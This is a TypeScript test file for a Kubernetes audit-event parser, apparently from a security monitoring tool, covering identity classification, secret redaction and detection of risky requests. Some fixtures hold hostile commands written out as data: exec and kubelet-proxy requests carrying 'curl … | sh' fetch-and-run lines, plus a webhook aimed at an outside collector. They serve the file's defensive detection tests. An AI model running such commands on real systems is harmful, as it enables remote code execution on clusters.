import { K8sAuditEvent } from '@plimsoll/contracts';
import { describe, expect, it } from 'vitest';

import { auditEvent } from './audit-event.js';
import { context, rawEvent } from './audit-fixtures.js';
import { PodAddresses } from './pod-addresses.js';

function read(changes: Readonly<Record<string, unknown>> = {}, privacy: 'strict' | 'full' = 'full'): K8sAuditEvent {
  const event = auditEvent(rawEvent(changes), context(privacy), new PodAddresses());
  if (event === undefined) throw new Error('no audit event');
  return K8sAuditEvent.parse(event);
}

describe('an audit event', () => {
  it('says who asked what, with which credential, from where, and by whose leave', () => {
    const event = read();
    expect(event.id).toMatch(/^4f6e27a4-0c6b-4d1c-8a57-2c8a4f1b0001\/ResponseComplete\/[0-9a-f]{16}$/);
    expect(event.key).toBe('cluster-a/system:serviceaccount:red:painter');
    expect(event.user.kind).toBe('service-account');
    expect(event.credential).toEqual({
      id: 'JTI=6f1b',
      pod: 'painter-7d9f-abcde',
      podUid: 'pod-uid-1',
      node: 'node-a',
    });
    expect(event.resource).toEqual({ group: '', name: 'pods', namespace: 'red' });
    expect(event.allowedBy).toEqual({
      binding: 'RoleBinding/painter/red',
      role: 'Role/painter',
      subject: 'ServiceAccount/painter/red',
    });
    expect(event.timeUs).toBe(Date.parse('2026-11-23T10:00:00.250Z') * 1000);
  });

  it('believes only the last source address: the others are what the client says', () => {
    expect(read({ sourceIPs: ['127.0.0.1', '198.51.100.7'] }).source.address).toBe('198.51.100.7');
  });

  it('has a name for nobody: a refused credential leaves no user', () => {
    const event = read({ user: {}, responseStatus: { code: 401 } });
    expect(event.user).toEqual({ name: 'unauthenticated', kind: 'unauthenticated', groups: [] });
    expect(event.credential).toBeUndefined();
  });

  it('knows kinds of identity by the form of the name', () => {
    const kind = (username: string): string => read({ user: { username } }).user.kind;
    expect(['system:anonymous', 'system:node:n1', 'system:kube-scheduler', 'ada@example.org'].map(kind)).toEqual([
      'anonymous',
      'node',
      'control-plane',
      'user',
    ]);
  });

  it('tells whether a pod has the address that its token is used from, once the kubelet said', () => {
    const pods = new PodAddresses();
    const kubelet = rawEvent({
      verb: 'patch',
      user: { username: 'system:node:node-a', groups: ['system:nodes'] },
      objectRef: { resource: 'pods', namespace: 'red', name: 'painter-7d9f-abcde', subresource: 'status' },
      requestObject: { metadata: { uid: 'pod-uid-1' }, status: { podIP: '10.0.0.5', podIPs: [{ ip: '10.0.0.5' }] } },
    });
    expect(auditEvent(rawEvent(), context(), pods)?.source.matchesPod).toBeUndefined();
    auditEvent(kubelet, context(), pods);
    expect(auditEvent(rawEvent(), context(), pods)?.source.matchesPod).toBe(true);
    expect(auditEvent(rawEvent({ sourceIPs: ['10.0.9.9'] }), context(), pods)?.source.matchesPod).toBe(false);
  });

  it('does not let a user who is no node say where a pod is', () => {
    const pods = new PodAddresses();
    const claim = rawEvent({
      verb: 'patch',
      objectRef: { resource: 'pods', namespace: 'red', name: 'x', subresource: 'status' },
      requestObject: { metadata: { uid: 'pod-uid-1' }, status: { podIP: '10.6.6.6' } },
    });
    auditEvent(claim, context(), pods);
    expect(pods.matches('pod-uid-1', '10.6.6.6')).toBeUndefined();
  });

  it('keeps no text of bodies, and no secret of an answer', () => {
    const event = read({
      verb: 'patch',
      objectRef: { resource: 'secrets', namespace: 'red', name: 'db' },
      requestObject: { data: { password: 'aHVudGVyMg==' } },
      responseObject: { kind: 'Secret', data: { password: 'aHVudGVyMg==' } },
    });
    expect(event.secretsReturned).toBe(true);
    expect(JSON.stringify(event)).not.toContain('aHVudGVyMg');
  });

  it('shows under strict no text that the client chose', () => {
    const event = read(
      {
        requestURI: "/api/v1/namespaces/red/pods/O'Brien hunter2",
        objectRef: { resource: 'pods', namespace: 'red', name: "O'Brien hunter2" },
        userAgent: 'hunter2/9',
      },
      'strict',
    );
    expect(JSON.stringify(event)).not.toMatch(/hunter2|Brien/);
    const path = read({ objectRef: undefined, requestURI: '/hunter2?x=hunter2' }, 'strict');
    expect(path.path).toMatch(/^digest:[0-9a-f]{16}$/);
    expect(read({ objectRef: undefined, requestURI: '/openapi/v3?timeout=32s' }, 'strict').path).toBe('/openapi/v3');
  });

  it('finds a program in the command of an exec without repeating it', () => {
    const event = read({
      requestURI:
        '/api/v1/namespaces/red/pods/p/exec?command=sh&command=-c&command=curl+http%3A%2F%2F192.0.2.1%2Fx+%7C+sh',
      objectRef: { resource: 'pods', namespace: 'red', name: 'p', subresource: 'exec' },
    });
    expect(event.scripts?.[0]?.kinds).toEqual(
      expect.arrayContaining(['interpreter', 'download', 'pipe-to-shell', 'address-url']),
    );
    expect(JSON.stringify(event)).not.toContain('curl');
  });

  it('is none without an id, a verb or a time', () => {
    for (const missing of ['auditID', 'verb', 'stage']) {
      expect(auditEvent(rawEvent({ [missing]: undefined }), context(), new PodAddresses())).toBeUndefined();
    }
    const timeless = rawEvent({ stageTimestamp: 'yesterday', requestReceivedTimestamp: 7 });
    expect(auditEvent(timeless, context(), new PodAddresses())).toBeUndefined();
  });

  it('notices a body that names another object than its path', () => {
    const write = (metadata: unknown): boolean | undefined =>
      read({
        verb: 'update',
        objectRef: { resource: 'pods', namespace: 'red', name: 'p' },
        requestObject: { metadata },
      }).bodyMismatch;
    expect(write({ name: 'p', namespace: 'red' })).toBeUndefined();
    expect(write({ name: 'q', namespace: 'red' })).toBe(true);
    expect(write({ name: 'p', namespace: 'blue' })).toBe(true);
  });
});

describe('a write of what the control plane is run by', () => {
  const received = '2026-11-23T10:00:05.000001Z';
  const patched = (times: readonly unknown[], verb = 'patch'): K8sAuditEvent =>
    read({
      verb,
      requestReceivedTimestamp: received,
      objectRef: { resource: 'clusterroles', apiGroup: 'rbac.authorization.k8s.io', name: 'reader' },
      requestObject: { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }] },
      responseObject: { metadata: { name: 'reader', managedFields: times.map((time) => ({ manager: 'flux', time })) } },
    });

  it('tells that it changed nothing, where no managed field has the time of now', () => {
    expect(patched(['2026-11-20T10:00:00Z', '2026-11-23T09:59:00Z']).unchanged).toBe(true);
    expect(patched(['2026-11-20T10:00:00Z', '2026-11-23T10:00:05Z']).unchanged).toBeUndefined();
    for (const times of [[], [undefined], ['nonsense'], ['2026-11-20T10:00:00Z', 7]])
      expect(patched(times).unchanged).toBeUndefined();
    expect(patched(['2026-11-20T10:00:00Z'], 'delete').unchanged).toBeUndefined();
  });

  it('tells what a webhook, an approval and a request to a kubelet let happen, and shows no host', () => {
    const hook = read({
      verb: 'create',
      objectRef: { resource: 'mutatingwebhookconfigurations', apiGroup: 'admissionregistration.k8s.io', name: 'x' },
      requestObject: { webhooks: [{ clientConfig: { url: 'https://collect.example.net/x' }, rules: [] }] },
    });
    expect(hook.control).toEqual({
      powers: ['calls-outside'],
      targets: [expect.stringMatching(/^[0-9a-f]{16}$/) as string],
    });
    expect(JSON.stringify(hook)).not.toContain('collect');
    const approval = read({
      verb: 'update',
      user: { username: 'ada' },
      objectRef: { resource: 'certificatesigningrequests', subresource: 'approval', name: 'x' },
      requestObject: { spec: { signerName: 'kubernetes.io/kube-apiserver-client', username: 'ada' } },
    });
    expect(approval.control?.powers).toEqual(['approves-own-request', 'asks-for-user']);
    const run = read({
      verb: 'create',
      requestURI: '/api/v1/nodes/node-a/proxy/run/red/painter/main?cmd=curl%20http%3A%2F%2Fx%2Fy%20%7C%20sh',
      objectRef: { resource: 'nodes', subresource: 'proxy', name: 'node-a' },
    });
    expect(run.kubelet).toBe('runs');
    expect(run.scripts?.[0]?.kinds).toContain('pipe-to-shell');
  });
});
